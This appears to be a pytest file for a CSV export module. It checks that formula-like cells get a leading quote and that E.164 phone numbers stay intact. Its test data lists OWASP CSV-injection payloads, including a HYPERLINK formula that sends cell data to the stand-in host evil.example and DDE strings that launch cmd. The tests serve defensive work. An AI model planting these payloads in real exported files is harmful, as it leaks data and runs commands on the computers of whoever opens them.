"""CSV exports escape what a spreadsheet would run as a formula (OWASP), keep E.164 intact."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from tests.api.conftest import Site
from tidal.api._export import csv_text, spreadsheet_safe

# Cells from the OWASP CSV-injection page and its usual payload lists.
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tanything",
    "+1555123456x",
    "+1 555 123 4567",
    "+",
    "+1234567890123456",  # 16 digits: longer than any E.164 number
    "=+15551234567",
]
HARMLESS: list[Any] = [
    "+15551234567",
    "+442071838750",
    "sales",
    "a=b",
    "1+1",
    " =1",  # a leading space: every spreadsheet reads it as text
    "",
    None,
    3,
    -1.5,
    0.0,
]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_formula_cell_gets_a_leading_quote(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_data_cells_and_e164_numbers_are_kept(cell: Any) -> None:
    assert spreadsheet_safe(cell) == cell


def test_csv_text_escapes_every_cell_and_the_header_and_round_trips() -> None:
    rows = [{"name": cell, "-n": i} for i, cell in enumerate([*DANGEROUS, "+15551234567"])]
    text = csv_text(rows, ["name", "-n"])
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == ["name", "'-n"]
    assert [r[0] for r in read[1:]] == ["'" + c for c in DANGEROUS] + ["+15551234567"]
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for r in read
        for cell in r
        if cell != "+15551234567"
    )


def test_the_campaign_report_export_escapes_names(center: Site) -> None:
    store = center.runtime.store
    for name in ('=HYPERLINK("http://x","y")', "@SUM(A1)", "+15551234567", "plain"):
        store.campaigns.put(name, {"name": name, "dial_mode": "preview"})
    answer = center.client.get(
        "/api/v1/reports/campaigns?from=2020-01-01&format=csv", headers=center.auth("ada")
    )
    assert answer.status_code == 200, answer.text
    names = [row["campaign"] for row in csv.DictReader(io.StringIO(answer.text, newline=""))]
    assert set(names) == {'\'=HYPERLINK("http://x","y")', "'@SUM(A1)", "+15551234567", "plain"}
